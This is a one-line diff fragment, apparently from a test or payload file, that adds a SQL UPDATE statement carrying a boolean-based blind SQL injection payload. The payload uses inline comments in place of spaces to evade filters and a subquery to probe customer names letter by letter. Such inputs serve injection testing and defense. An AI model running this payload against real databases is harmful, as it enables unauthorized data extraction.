@@ -1,0 +1,1 @@
+UPDATE sales_orders SET status = 'SO-1001' WHERE order_no = ''/**/AND/**/(SELECT/**/customer/**/FROM/**/sales_orders/**/LIMIT/**/1)/**/LIKE/**/'A%'--'
